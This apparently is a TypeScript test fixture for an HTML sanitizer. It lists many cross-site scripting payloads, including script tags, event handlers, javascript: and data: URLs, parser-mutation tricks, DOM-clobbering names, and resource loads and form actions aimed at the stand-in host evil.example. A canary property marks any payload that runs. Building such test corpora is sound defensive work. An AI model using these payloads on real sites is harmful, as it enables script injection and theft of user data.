const evil = 'https://evil.example'
const run = 'window.__xss=1'

/** HTML that runs a script, where it can. */
const scripts = [
  `<script>${run}</script>`,
  `<script src=${evil}/x.js></script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script type=module>import '${evil}/m.js'</script>`,
  `<script>${run}//`,
  `<!--><script>${run}</script>-->`,
  `<!--<!-- --><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml ?><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
]

/** Handlers of events, of which many need nobody's hand. */
const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<img/src=x/onerror=${run}>`,
  `<img src="x\`\`onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src=x\nonerror\n=\n${run}>`,
  `<img \u0000src=x onerror\u0000=${run}>`,
  `<body onload=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributename=x to=y>`,
  `<details open ontoggle=${run}><summary>s</summary></details>`,
  `<video src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<video><source onerror=${run} src=x></video>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>m</marquee>`,
  `<p style="animation:x 1s" onanimationstart=${run}>p</p>`,
  `<p tabindex=1 autofocus onfocus=${run}>p</p>`,
  `<object data=x onerror=${run}></object>`,
  `<p onpointerover=${run} onclick=${run} ontouchstart=${run}>touch</p>`,
]

/** Addresses that are code. */
const addresses = [
  `<a href="javascript:${run}">js</a>`,
  `<a href="JaVaScRiPt:${run}">js</a>`,
  `<a href=" &#14; javascript:${run}">js</a>`,
  `<a href="java\tscript:${run}">js</a>`,
  `<a href="java&#x0A;script:${run}">js</a>`,
  `<a href="&#106;avascript&colon;${run}">js</a>`,
  `<a href="vbscript:${run}">vb</a>`,
  `<a href="data:text/html,<script>opener.__xss=1</script>">data</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==">data</a>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>svg</text></a></svg>`,
  `<math><a xlink:href="javascript:${run}">math</a></math>`,
  `<math href="javascript:${run}">math</math>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}" form=none>go</button>`,
  `<isindex type=image src=1 onerror=${run}>`,
]

/** What a parser reads in one way first and in another way afterwards. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><desc><noscript></noscript></desc><image href=x onerror=${run}></svg>`,
  `<table><caption><svg><title><style></caption></table><img src=x onerror=${run}>`,
  `<a title="<!--"><b title="--><img src=x onerror=${run}>">b</b></a>`,
  `${'<div>'.repeat(600)}<img src=x onerror=${run}>${'</div>'.repeat(600)}`,
]

/** What asks another host for something, or leads there. */
const foreign = [
  `<img src=${evil}/1.png>`,
  `<img srcset="${evil}/2.png 1x">`,
  `<picture><source srcset=${evil}/3.png><img src=//evil.example/4.png></picture>`,
  `<video poster=${evil}/5.png src=${evil}/6.mp4 autoplay></video>`,
  `<audio src=${evil}/7.mp3 autoplay><track src=${evil}/8.vtt default></audio>`,
  `<table background=${evil}/9.png><tr><td background=${evil}/10.png>cell</td></tr></table>`,
  `<style>@import url(${evil}/11.css);*{background:url(${evil}/12.png)!important}</style>`,
  `<p style="background:url(${evil}/13.png)">styled</p>`,
  `<p style="width:expression(${run})">styled</p>`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">cover</p>`,
  `<link rel=stylesheet href=${evil}/14.css>`,
  `<link rel=prefetch href=${evil}/15><link rel=dns-prefetch href=//evil.example>`,
  `<link rel=preconnect href=${evil}><link rel=modulepreload href=${evil}/16.js>`,
  `<meta http-equiv=refresh content="0;url=${evil}/17">`,
  `<base href=${evil}/>`,
  `<base target=_top>`,
  `<iframe src=${evil}/18></iframe>`,
  `<object data=${evil}/19.swf></object><embed src=${evil}/20.swf>`,
  `<portal src=${evil}/21></portal>`,
  `<svg><image href=${evil}/22.png /><use href=${evil}/23.svg#x /></svg>`,
  `<svg><filter><feImage href=${evil}/24.png /></filter></svg>`,
  `<input type=image src=${evil}/25.png>`,
  `<body background=${evil}/26.png>`,
  `<frameset><frame src=${evil}/27></frameset>`,
  `<a href=https://good.example/terms ping=${evil}/28 target=_top>link</a>`,
  `<form action=${evil}/29 id=app><input name=token><input type=submit></form>`,
  `<img src='${evil}/30?`,
  `<textarea><form action=${evil}/31>`,
]

/** Names that stand in the way of the page's own. */
const names = [
  '<a id=app name=app>clobber</a>',
  '<form id=document name=body><input name=attributes><input name=parentNode></form>',
  '<img name=getElementById><img name=cookie>',
  '<a id=localStorage></a><a id=localStorage name=getItem></a>',
  '<p class="ac-sheet ac-toast ac-hidden">class</p>',
]

/** Ways in which HTML of somebody else's has harmed pages: `canary` is set where one runs. */
export const hostileHtml: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...mutations,
  ...foreign,
  ...names,
]

const ended = ['script', 'style', 'title', 'textarea', 'xmp', 'noscript', 'noembed', 'template', 'iframe']
const left = ['table', 'svg', 'mglyph', 'form', 'mtext', 'math', 'select', 'object', 'div']
const closers = `-->"'>${[...ended, ...left].map((name) => `</${name}>`).join('')}`

/** Attacks in one text, in which none is inside of another. */
export const sideBySide = (attacks: readonly string[]): string =>
  attacks.map((attack) => `<div>${attack}${closers}</div>`).join('\n')

/** All of it. */
export const hostilePage = sideBySide(hostileHtml)

/** The property of `window` that hostile HTML sets. */
export const canary = '__xss'

/** The host that it asks for things. */
export const foreignHost = 'evil.example'
